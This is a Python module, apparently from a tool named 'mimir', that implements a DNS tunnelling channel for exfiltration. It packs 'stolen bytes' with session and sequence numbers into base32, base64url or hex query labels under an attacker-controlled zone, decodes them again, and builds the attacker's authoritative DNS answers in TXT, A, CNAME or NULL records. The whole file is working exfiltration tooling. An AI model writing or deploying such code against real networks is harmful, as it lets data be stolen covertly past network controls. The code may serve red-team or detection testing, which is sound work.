"""dns_tunnel: stolen bytes as query names under a zone the attacker answers for.

A name is (session u16, sequence u32, data) written in base32 (RFC 4648, lower case, no padding), base64url (RFC 4648, 5,
no padding) or hex, cut into labels, then the zone. Sequence numbers start where the caller says and count names, so that
lost, repeated and reordered queries show. base64url needs resolvers that leave capitals alone, as RFC 1035 asks them to.
"""

from __future__ import annotations

import base64
import struct
from collections.abc import Iterable

from mimir.exfiltration.channels.sequence import consecutive
from mimir.exfiltration.dns_messages import response_message, text_data, wire_name
from mimir.spec.exfiltration import DnsTunnelSpec

_PREFIX = struct.Struct("!HI")
SHORTEST_LABEL = 4
PLAIN_BYTES = 512  #: longest message over UDP without EDNS (RFC 1035, 4.2.1)
_RECORD_BYTES = 12  # of a record whose name is a pointer, without its data
_BITS = {"base32": 5, "base64url": 6, "hex": 4}  # of a character
_ACKNOWLEDGED = {"TXT": text_data(b"ok"), "A": b"\x7f\x00\x00\x01", "NULL": b"ok"}


def name_capacity(spec: DnsTunnelSpec) -> int:
    """Stolen bytes one name holds; ≤ 0 when the limits leave no room."""
    room = spec.name_bytes - len(spec.domain)  # for characters and one dot after each label
    full, rest = divmod(room, spec.label_bytes + 1)
    characters = full * spec.label_bytes + max(0, rest - 1)
    return characters * _BITS[spec.encoding] // 8 - _PREFIX.size


def encode(data: bytes, spec: DnsTunnelSpec, session: int, first_sequence: int) -> list[bytes]:
    """Query names (text, no final dot) that hold `data`, in order. ValueError when the limits leave no room.

    `session` is 16 bit, sequence numbers 32 bit; both wrap.
    """
    size = name_capacity(spec)
    if size < 1:
        raise ValueError(f"names of {spec.name_bytes} bytes leave no room for data under {spec.domain}")
    tail = spec.domain.encode("ascii")
    names = []
    for number, begin in enumerate(range(0, len(data), size)):
        raw = _PREFIX.pack(session & 0xFFFF, (first_sequence + number) & 0xFFFFFFFF) + data[begin : begin + size]
        text = _write(raw, spec.encoding)
        labels = [text[at : at + spec.label_bytes] for at in range(0, len(text), spec.label_bytes)]
        names.append(b".".join([*labels, tail]))
    return names


def decode(names: Iterable[bytes], spec: DnsTunnelSpec) -> bytes:
    """The data of one session, whatever the order and however often a name came. Inverse of `encode`.

    ValueError for a name that is not of this tunnel, for two sessions mixed, and for missing sequence numbers (named).
    """
    tail = b"." + spec.domain.encode("ascii").lower()
    pieces: dict[int, bytes] = {}
    sessions = set()
    for name in names:
        plain = name.removesuffix(b".")
        if not plain.lower().endswith(tail):
            raise ValueError(f"{name!r} is not a name under {spec.domain}")
        raw = _read(plain[: -len(tail)].replace(b".", b""), spec.encoding, name)
        session, sequence = _PREFIX.unpack_from(raw)
        sessions.add(session)
        pieces[sequence] = raw[_PREFIX.size :]
    if len(sessions) > 1:
        raise ValueError(f"names of {len(sessions)} sessions: {sorted(sessions)}")
    return b"".join(pieces[sequence] for sequence in consecutive(pieces))


def answer(name: bytes, spec: DnsTunnelSpec, transaction: int = 0) -> bytes:
    """The attacker's answer to one query, of the type asked for, not to be cached.

    `short` acknowledges in a few bytes. `matching` sends about as many bytes back as the name carries (its text
    without the zone), as far as they fit into PLAIN_BYTES: as TXT strings, as a name of the same length, raw, or as addresses (four bytes a record).
    """
    if spec.answer == "short":
        records = [_ACKNOWLEDGED.get(spec.record_type) or wire_name(b"ok." + spec.domain.encode("ascii"))]
    else:
        records = _matching(name, spec)
    return response_message(name, spec.record_type, transaction, records, ttl_s=0)


def _matching(name: bytes, spec: DnsTunnelSpec) -> list[bytes]:
    """Records of about as many bytes as the name carries; as much of it as fits into PLAIN_BYTES."""
    plain = name.removesuffix(b".")
    labels = plain[: -len(spec.domain) - 1].split(b".")
    text, room = b".".join(labels), PLAIN_BYTES - len(response_message(name, spec.record_type))
    if spec.record_type == "CNAME":
        while len(plain) + 2 + _RECORD_BYTES > room and len(labels) > 1:
            plain = plain[len(labels.pop(0)) + 1 :]
        return [wire_name(b".".join([*reversed(labels), spec.domain.encode("ascii")]))]
    if spec.record_type == "TXT":
        return [text_data(text[: room - _RECORD_BYTES - 1])]
    if spec.record_type == "NULL":
        return [text[: room - _RECORD_BYTES]]
    padded = text + bytes(-len(text) % 4)
    return [padded[at : at + 4] for at in range(0, len(padded), 4)][: room // (_RECORD_BYTES + 4)]


def _write(raw: bytes, encoding: str) -> bytes:
    if encoding == "base32":
        return base64.b32encode(raw).rstrip(b"=").lower()
    return base64.urlsafe_b64encode(raw).rstrip(b"=") if encoding == "base64url" else raw.hex().encode()


def _read(text: bytes, encoding: str, name: bytes) -> bytes:
    try:
        if encoding == "base32":
            raw = base64.b32decode(text.upper() + b"=" * (-len(text) % 8))
        elif encoding == "base64url":
            raw = base64.b64decode(text + b"=" * (-len(text) % 4), altchars=b"-_", validate=True)
        else:
            raw = bytes.fromhex(text.decode())
    except ValueError as error:
        raise ValueError(f"{name!r} does not hold {encoding}: {error}") from error
    if len(raw) <= _PREFIX.size:
        raise ValueError(f"{name!r} holds {len(raw)} bytes, a name of this tunnel has more than {_PREFIX.size}")
    return raw
